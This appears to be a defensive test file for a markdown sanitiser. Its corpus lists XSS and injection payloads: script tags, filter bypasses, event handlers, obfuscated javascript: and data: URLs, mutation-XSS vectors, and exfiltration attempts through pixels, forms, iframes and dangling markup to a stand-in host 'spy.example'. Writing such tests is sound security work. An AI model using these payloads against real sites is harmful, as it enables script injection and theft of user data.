import { render } from '@solidjs/testing-library'
import { describe, expect, test } from 'vitest'
import { Markdown } from '../../../src/app/ui/markdown.tsx'
import { longestMarkdown, renderMarkdown } from '../../../src/app/ui/markdown-render.ts'

function shown(text: string): HTMLElement {
  const place = document.createElement('div')
  place.append(...renderMarkdown(text))
  return place
}

const allowed = new Set([
  'A',
  'BLOCKQUOTE',
  'BR',
  'CODE',
  'DEL',
  'EM',
  'H3',
  'HR',
  'LI',
  'OL',
  'P',
  'PRE',
  'STRONG',
  'TABLE',
  'TBODY',
  'TD',
  'TH',
  'THEAD',
  'TR',
  'UL',
])

const corpus = [
  '<script>globalThis.reached = true</script>',
  '<scr<script>ipt>globalThis.reached = true</scr</script>ipt>',
  '<img src=x onerror="globalThis.reached = true">',
  '<img src="https://spy.example/pixel.png">',
  '![spy](https://spy.example/pixel.png)',
  '![spy](javascript:globalThis.reached=true)',
  '<svg onload="globalThis.reached = true"><a xlink:href="javascript:1"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror="globalThis.reached = true"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.reached = true"></style></mglyph></table></mtext></math>',
  '<style>body { background: url(https://spy.example/) }</style>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<form action="https://spy.example/"><input name="password"><button>Go</button></form>',
  '<iframe src="https://spy.example/"></iframe><iframe srcdoc="<script>parent.reached = true</script>"></iframe>',
  '<object data="https://spy.example/"></object><embed src="https://spy.example/">',
  '<meta http-equiv="refresh" content="0;url=https://spy.example/">',
  '<base href="https://spy.example/">[relative](path)',
  '<link rel="stylesheet" href="https://spy.example/a.css">',
  "<img src='https://spy.example/?leak=",
  '<a href="https://a.example" onclick="globalThis.reached = true" target="_top" ping="https://spy.example/">x</a>',
  '[x](javascript:globalThis.reached=true)',
  '[x](JaVaScRiPt:globalThis.reached=true)',
  '[x](java\tscript:globalThis.reached=true)',
  '[x](&#106;avascript:globalThis.reached=true)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:x) [y](file:///etc/passwd) [z](http://plain.example/) [r](//other.example/) [s](/settings/)',
  '[x](https://good.example@evil.example/)',
  '<https://a.example/"onmouseover="globalThis.reached=true>',
  '[x](https://a.example "title\\" onmouseover=\\"globalThis.reached=true")',
  '<details open ontoggle="globalThis.reached = true">x</details>',
  '<video><source onerror="globalThis.reached = true"></video><audio src=x onerror="globalThis.reached = true">',
  '<template><script>globalThis.reached = true</script></template>',
  '<div id="content" name="cookie" class="toast">clobber</div>',
  '```html\n<script>globalThis.reached = true</script>\n```',
  '`<img src=x onerror="globalThis.reached = true">`',
  '<!-- <img src=x onerror="globalThis.reached = true"> -->',
  '<![CDATA[<script>globalThis.reached = true</script>]]>',
  '- [ ] task <input autofocus onfocus="globalThis.reached = true">',
]

describe('markdown of an issuer', () => {
  test.for(corpus)('is harmless: %s', async (text) => {
    const place = shown(text)
    document.body.append(place)
    for (const element of place.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName)
      for (const { name, value } of element.attributes) {
        expect(['href', 'start', 'target', 'rel', 'data-host']).toContain(name)
        if (name === 'href') expect(value).toMatch(/^https:\/\/[^@]+$/)
      }
    }
    await new Promise((later) => setTimeout(later, 20))
    expect('reached' in globalThis).toBe(false)
    place.remove()
  })

  test('loads nothing from anywhere', async () => {
    const before = performance.getEntriesByType('resource').length
    const place = shown(corpus.join('\n\n'))
    document.body.append(place)
    await new Promise((later) => setTimeout(later, 50))
    expect(
      performance
        .getEntriesByType('resource')
        .slice(before)
        .filter(({ name }) => /spy\.example/.test(name)),
    ).toEqual([])
    place.remove()
  })

  test('opens its links apart, says where they lead and tells that place nothing', () => {
    const link = shown('[Requirements](https://kestrel.example/requirements?a=b)').querySelector('a')
    expect(link).toMatchObject({ href: 'https://kestrel.example/requirements?a=b', target: '_blank', rel: 'noopener noreferrer' })
    expect(link?.dataset['host']).toBe('kestrel.example')
  })

  test('keeps the words of a link that leads nowhere safe', () => {
    const place = shown('[Read **this**](javascript:alert(1))')
    expect(place.querySelector('a')).toBeNull()
    expect(place.textContent?.trim()).toBe('Read this')
  })

  test('keeps what is meant: lists, emphasis, code, tables', () => {
    const place = shown('# Title\n\n1. one\n2. **two**\n\n| a | b |\n|---|---|\n| 1 | `x<y` |')
    expect(place.querySelector('h3')?.textContent).toBe('Title')
    expect(place.querySelectorAll('ol > li')).toHaveLength(2)
    expect(place.querySelector('strong')?.textContent).toBe('two')
    expect(place.querySelector('td > code')?.textContent).toBe('x<y')
  })

  test('sets every heading under ours, whatever level it claims', () => {
    const headings = shown('# One\n\n###### Six\n\n## Two').querySelectorAll('h1, h2, h3, h4, h5, h6')
    expect([...headings].map(({ tagName }) => tagName)).toEqual(['H3', 'H3', 'H3'])
  })

  test('keeps the words inside markup that it takes out', () => {
    expect(shown('<p>Attend <b>six</b> sessions</p>').textContent?.trim()).toBe('Attend six sessions')
  })

  test.for([
    ['a huge text', 'word '.repeat(200_000)],
    ['deep quotes', '>'.repeat(20_000)],
    ['deep lists', '- '.repeat(10_000)],
    ['open brackets', '['.repeat(20_000)],
    ['stars', '*a '.repeat(7_000)],
    ['open tags', '<a '.repeat(7_000)],
    ['backticks', '`'.repeat(20_000)],
    ['table rows', `|a|\n|-|\n${'|'.repeat(19_000)}`],
    ['entities', '&amp;'.repeat(4_000)],
  ] as const)('is cut to size and rendered: %s', ([, text]) => {
    const place = shown(text)
    expect(place.textContent?.length ?? 0).toBeLessThanOrEqual(longestMarkdown * 2)
  })
})

describe('the component', () => {
  test('shows the plain text until it is rendered, then the rendered one, in its language and direction', async () => {
    const { container } = render(() => <Markdown text={'**Six** sessions'} language="ar" direction="rtl" />)
    const place = container.querySelector('.markdown')
    expect(place?.textContent).toBe('**Six** sessions')
    expect(place?.classList.contains('plain')).toBe(true)
    await expect.poll(() => container.querySelector('strong')?.textContent).toBe('Six')
    expect(place?.getAttribute('lang')).toBe('ar')
    expect(place?.getAttribute('dir')).toBe('rtl')
    expect(place?.classList.contains('plain')).toBe(false)
  })
})
